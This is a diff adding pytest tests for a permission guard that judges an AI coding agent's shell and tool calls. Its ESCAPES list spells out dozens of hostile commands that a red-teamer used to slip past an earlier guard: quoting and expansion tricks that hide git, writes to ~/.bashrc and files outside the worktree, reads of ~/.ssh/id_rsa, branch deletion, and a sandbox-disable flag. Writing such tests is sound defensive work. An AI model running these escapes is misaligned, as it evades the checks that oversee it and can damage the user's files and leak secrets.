@@ -347,3 +347,163 @@ def test_init_says_what_is_missing_when_bash_is_allowed_with_no_sandbox(repo, cl
     assert cli("config", "set", "bypass_permissions", '["Bash", "Edit(./**)"]').code == 0
     init = cli("init")
     assert "  missing: Bash is allowed outright with no sandbox, so a script an agent" in init.out
+
+
+# Escapes a hostile tester found in the first guard: none may be allowed without the sandbox.
+# Each stands for a class: how bash reads a word, an operator, a here-document, a program.
+ESCAPES = [
+    # git writing where --output (in either form) or -o says
+    "git log -1 --format=tformat:x --output ~/.bashrc",
+    "git log -1 --format=tformat:x --output=$HOME/.bashrc",
+    "git diff --output ../../README.md HEAD",
+    "git format-patch -o ../.. HEAD~1",
+    "git show --output ../../.gi?/config HEAD",
+    # parameter expansion the guard would misread
+    "echo x > ${PWD/.worktrees*/.orch}estra/config.json",
+    "cat ${PWD/task-mine/task-theirs}/README.md",
+    "cat ${HOME%/}/.ssh/id_rsa",
+    "F=../../README.md; echo pwned | tee $F",
+    "F=~/.ssh/id_rsa; cat $F",
+    # redirection operators shlex glues together
+    "echo pwned >| ../../README.md",
+    "(echo pwned)>../../README.md",
+    "true;>../../README.md",
+    "echo x|>../../README.md",
+    # ~+ and ~user
+    "git -C ~+/.. checkout -- :/README.md",
+    "cd ~+/.. && echo pwned > README.md",
+    "echo pwned > ~root/pwned",
+    # brace expansion
+    "echo x | tee {$HOME/.config/claude-orch''estra/config.json,./x}",
+    "cp evil.sh {$HOME/.bashrc,}",
+    "cat ../../.{orchestra,x}/web.json",
+    # git hidden from the guard
+    "$'git' branch -D main",
+    "g=git; $g branch -D main",
+    "sh -ec 'git branch -D main'",
+    "bash <<< 'git branch -D main'",
+    "echo 'git branch -D main' | sh",
+    "find . -maxdepth 0 -exec sh -c 'git branch -D main' \\;",
+    "gi\\\nt branch -D main",
+    "env G''IT_DIR=../../.g''it G''IT_WORK_TREE=../.. git checkout -- :/README.md",
+    "env -S'git branch -D main'",
+    # git subcommands that write files
+    "git merge-file ../../README.md README.md evil.txt",
+    "git interpret-trailers --in-place --trailer a=b ../../README.md",
+    "git apply --unsafe-paths evil.patch",
+    "git read-tree --index-output ../../x HEAD",
+    "git index-pack -o ../../x p.pack",
+    "git pack-objects ../../x",
+    # leaving the agent's branch
+    "git checkout main --",
+    "git checkout --ignore-other-worktrees main --",
+    "git switch -- main",
+    "git checkout -",
+    "git switch -",
+    "git rebase main -- orchestra/theirs",
+    "git rebase --root main",
+    "git bisect reset main",
+    "git config edit",
+    "git config set core.hooksPath /tmp/h",
+    # reads through tricks
+    "cat $(echo ../../.orch)estra/web.json",
+    "CDPATH=$PWD/../.. cd .orch''estra && cat web.json",
+    "cd && cat .ssh/id_rsa",
+    "cd && echo pwned > .pwned",
+    # writers the guard did not know
+    "sed -Ei s/hi/pwned/ ../../README.md",
+    "sed --in-place s/hi/pwned/ ../../README.md",
+    "perl -pi -e s/hi/pwned/ ../../README.md",
+    "sed -n 'w ../../README.md' README.md",
+    "sort -o ../../README.md evil",
+    "cp -t../.. evil",
+    "mv ../../README.md .",
+    "cp -l ../../.gi?/config c",
+    "link ~/.bashrc b",
+    "cp -s ../../README.md r",
+    "tar -xPf /tmp/e.tar",
+    "tar -xf e.tar -C ~",
+    "curl -o ~/.bashrc http://x",
+    # git's behaviour changed through the environment
+    "HOME=/tmp/x git status",
+    "XDG_CONFIG_HOME=/tmp/x git commit -m x",
+    "GIT_TRACE=../../README.md git status",
+    "PATH=.:/usr/bin git commit -m x",
+    "git rebase -x'touch /tmp/p' HEAD~1",
+    "git merge -s evil HEAD",
+    "git difftool -y -x ./x.sh HEAD",
+    # here-documents that run code
+    "cat <<EOF > notes.md\n$(git branch -D main)\nEOF",
+]
+
+
+@pytest.mark.parametrize("command", ESCAPES)
+def test_escapes_found_by_a_hostile_tester_are_not_allowed(layout, command):
+    _b, repo, _worktree, home = layout
+    command = command.replace("{repo}", str(repo)).replace("{home}", str(home))
+    v = verdict(layout, "Bash", command=command)
+    assert v.decision in ("ask", "deny"), v
+
+
+SANDBOXED_ESCAPES = [e for e in ESCAPES if not e.startswith(("F=", "cat $(echo"))]
+
+
+@pytest.mark.parametrize("command", SANDBOXED_ESCAPES)
+def test_with_the_sandbox_the_guard_still_refuses_what_the_sandbox_lets_through(layout, command):
+    """In the sandbox, only a hidden word's value is left to the sandbox's walls (writes only in
+    the worktree, no reads of orchestra's files or your secrets): every other escape still asks."""
+    b = layout[0]._replace(sandboxed=True)
+    v = orchestra.guard("Bash", {"command": command}, b, b.worktree)
+    assert v.decision in ("ask", "deny"), v
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git commit -m \"$(cat <<'EOF'\nFix the parser\n\nIt's done.\n\nCo-Authored-By: Claude <noreply@anthropic.com>\nEOF\n)\"",
+        "git commit -F - <<'EOF'\nDon't crash\nEOF",
+        "cat > notes.md <<'EOF'\nit's fine; then git push origin x.\nEOF",
+        "git branch -av",
+        "for f in src/*.py; do echo $f; done",
+        "git add -A && git commit -qm 'work' && git log --oneline -1",
+        "python3 -m pytest -q tests/ 2>&1 | tail -20",
+        "ls -la && cat README.md | head -5",
+        "mkdir -p out && sort data.txt -o out/sorted.txt",
+        "sed -i 's/old/new/g' src/a.py",
+        "find . -name '*.pyc' -delete",
+        "git stash list && git status --short",
+    ],
+)
+def test_ordinary_commands_an_agent_writes_pass(layout, command):
+    _b, _repo, worktree, _home = layout
+    (worktree / "data.txt").write_text("b\na\n")
+    v = verdict(layout, "Bash", command=command)
+    assert v.decision == "allow", v
+
+
+def test_a_call_that_asks_to_leave_the_sandbox_is_judged_as_if_unsandboxed(layout):
+    b = layout[0]._replace(sandboxed=True)
+    command = {"command": "F=notes.txt; wc -l $F"}
+    assert orchestra.guard("Bash", command, b, b.worktree).decision == "allow"
+    command["dangerouslyDisableSandbox"] = True
+    assert orchestra.guard("Bash", command, b, b.worktree).decision == "ask"
+    assert orchestra.guard("Bash", {"command": ["git", "branch", "-D"]}, b).decision == "deny"
+
+
+@pytest.mark.parametrize(
+    "tool, tool_input",
+    [
+        ("mcp__fs__move_file", {"source": "a.txt", "destination": "{home}/.bashrc"}),
+        ("mcp__fs__read_multiple_files", {"paths": ["{repo}/.orchestra/web.json"]}),
+        ("mcp__x__y", {"args": {"path": "{repo}/README.md"}}),
+        ("mcp__shell__run", {"command": "echo x > ../../README.md"}),
+        ("Glob", {"pattern": "../../.orch*/*"}),
+        ("Glob", {"pattern": "../../.worktree?/**"}),
+        ("Write", {"file_path": "~/.bashrc", "content": "x"}),
+    ],
+)
+def test_other_tools_are_judged_by_every_path_and_command_they_carry(layout, tool, tool_input):
+    _b, repo, _worktree, home = layout
+    text = json.dumps(tool_input).replace("{repo}", str(repo)).replace("{home}", str(home))
+    v = verdict(layout, tool, **json.loads(text))
+    assert v.decision in ("ask", "deny"), v
